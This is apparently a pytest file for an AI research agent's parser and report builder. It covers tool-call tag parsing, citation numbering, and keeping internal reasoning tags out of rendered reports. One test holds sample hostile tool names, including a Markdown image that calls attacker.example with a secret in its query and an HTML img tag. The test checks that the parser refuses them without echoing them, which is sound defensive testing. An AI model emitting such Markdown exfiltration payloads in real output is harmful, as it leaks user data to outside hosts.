"""Reading tags and rendering reports: aliases, attributes, unclosed tags, leaks, citation checking."""

from __future__ import annotations

import pytest

from agent import parse
from agent.report import build_report
from store.records import PromptRecord, Snippet, ToolCallRecord, Trajectory, Turn


def traj(answer: str, snippets: tuple[Snippet, ...] = ()) -> Trajectory:
    return Trajectory(
        session_id="s", question="Q <b>?</b>", prompt=PromptRecord("p", (1,), "h"),
        turns=(Turn("answer", "sampled", answer, (1,)),),
        tool_calls=(ToolCallRecord("local_search", "q", snippets=snippets),),
    )


S = (Snippet("aaaaaaaa-0", "local_search", "Alpha", "a"), Snippet("aaaaaaaa-1", "local_search", "Beta", "b"))


@pytest.mark.parametrize(
    ("text", "name", "query", "attrs"),
    [
        ('<call_tool name="local_search">Haymo</call_tool>', "local_search", "Haymo", {}),
        ('x <call name="google_search" gl="us" hl="en">q q</call>', "google_search", "q q", {"gl": "us", "hl": "en"}),
        ('<call_tool name = "snippet_search" year="2020-2024">', "snippet_search", "", {"year": "2020-2024"}),
        ('<call_tool name="a">first</call_tool><call_tool name="b">second', "b", "second", {}),
    ],
)
def test_tool_calls_are_read_with_aliases_attributes_and_unclosed_bodies(text, name, query, attrs) -> None:  # type: ignore[no-untyped-def]
    call = parse.parse_tool_call(text)
    assert (call.name, call.query, call.attrs) == (name, query, attrs)


@pytest.mark.parametrize("text", ["no call here", '<call_tool>q</call_tool>', '<call_tool name="">q</call_tool>'])
def test_unreadable_calls_raise(text: str) -> None:
    with pytest.raises(parse.CallParseError):
        parse.parse_tool_call(text)


@pytest.mark.parametrize("name", [
    "![](https://attacker.example/?q=secret)", "[x](https://attacker.example)", "<img src=x>", "a`b", "local search!",
    "x" * 65, "local_search\nmore", ":red[x]", "$x$",
])
def test_tool_names_outside_the_identifier_charset_are_refused_without_echoing_them(name: str) -> None:
    """A tool name is model-written text that the tool error, the session log and the UI repeat: a name that is no
    identifier (a Markdown image that would fetch an attacker's URL in every viewer's browser) is refused, and the
    message does not quote it (issue 34, finding 3)."""
    with pytest.raises(parse.CallParseError) as refused:
        parse.parse_tool_call(f'<call_tool name="{name}">query</call_tool>')
    message = str(refused.value)
    assert name.strip() not in message and "attacker" not in message
    if "<" not in name:  # (an unquoted `>` ends the tag first: then the tag has no name at all)
        assert 'write <call_tool name="TOOL"> with a listed name' in message


@pytest.mark.parametrize("name", ["local_search", "Google Search", "docs.lookup-v2", "a", "x" * 64])
def test_tool_names_in_the_identifier_charset_are_read(name: str) -> None:
    assert parse.parse_tool_call(f'<call_tool name="{name}">q</call_tool>').name == name


def test_main_text_aliases_map_to_canonical_tags() -> None:
    assert [parse.canonical_tag(t) for t in ("analysis", "RUBRICS", "rubrics_review", "rubric")] == [
        "deep_analysis", "rubric", "rubric_review", "rubric"]


def test_report_numbers_known_citations_removes_unknown_and_leaks_nothing() -> None:
    answer = (
        '<answer><think>secret plan</think><state_evaluation>internal</state_evaluation>'
        'One <cite id="aaaaaaaa-1" type="x">b fact</cite>. Two <cite id="aaaaaaaa-0, zzzzzzzz-0">a fact</cite>. '
        'Three <cite id="nope-1">made up</cite>. Math a<b stays. Cut <cite id="aaaaaaaa-0">unclosed</answer>'
    )
    r = build_report(traj(answer, S))
    assert "b fact [1]" in r.body and "a fact [2]" in r.body and "unclosed [2]" in r.body
    assert r.unknown_citations == 2 and [s.id for s in r.references] == ["aaaaaaaa-1", "aaaaaaaa-0"]
    assert "secret" not in r.markdown and "internal" not in r.markdown and "a<b stays" in r.body
    assert "<cite" not in r.markdown and "</" not in r.body
    assert r.markdown.splitlines()[0] == "# Q <b>?</b>"  # the user's own text is left as written
    assert "1. **Beta**" in r.markdown and "2. **Alpha**" in r.markdown


def test_empty_answer_says_so() -> None:
    r = build_report(traj("<answer></answer>"))
    assert not r.answer_found and "no answer" in r.body and r.references == ()


def test_tag_fragments_cut_by_length_limits_are_removed() -> None:
    assert parse.strip_tags("text </ans") == "text "
    assert parse.strip_tags("a <call_tool name=\"x\" unfinished\nnext") == "a \nnext"


def test_uncited_answers_list_the_sources_consulted_separately() -> None:
    r = build_report(traj("<answer>Plain text, no cites.</answer>", S))
    assert r.references == ()
    assert "## Sources consulted (not cited in the text)" in r.markdown and "## References" not in r.markdown
    assert "- **Alpha**" in r.markdown and "- **Beta**" in r.markdown


def test_a_bare_snippet_id_becomes_a_reference_never_the_answer() -> None:
    """SmolLM2 often writes the id it read instead of citing it ("In short, the answer is 2d400828-0"): the report
    shows a numbered reference in its place, keeps real citations' numbers, and leaves ids no tool returned alone."""
    r = build_report(traj('<answer>In short, the answer is aaaaaaaa-1 (Beta), see <cite id="aaaaaaaa-0">x</cite>; '
                          "not bbbbbbbb-0 or aaaaaaaa-10.</answer>", S))
    assert "aaaaaaaa-1 " not in r.body and "aaaaaaaa-0" not in r.body
    assert r.body.startswith("In short, the answer is [2] (Beta), see x [1]"), r.body
    assert [s.id for s in r.references] == ["aaaaaaaa-0", "aaaaaaaa-1"]
    assert "bbbbbbbb-0" in r.body and "aaaaaaaa-10" in r.body  # unknown ids are text, not references
